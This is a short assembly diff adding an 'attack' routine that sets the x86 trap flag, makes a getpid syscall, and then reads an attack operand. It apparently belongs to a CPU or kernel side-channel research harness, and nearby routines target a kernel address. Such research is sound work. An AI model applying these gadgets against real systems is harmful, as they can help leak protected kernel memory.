@@ -324,6 +324,21 @@ cfi_start attack_trap_flag_operand, return
         ret
 cfi_end
 
+; The kernel returns with the flag.
+align 16
+cfi_start attack_trap_flag_syscall_operand, return
+        mov eax, SYSCALL_GETPID
+        pushfq
+        cfi_offset 16
+        or qword [rsp], FLAG_TRAP
+        popfq
+        cfi_offset 8
+        syscall
+        mov al, [attack_operand]
+        nop
+        ret
+cfi_end
+
 align 16
 cfi_start attack_jump_kernel, return
         mov rax, KERNEL_ADDRESS
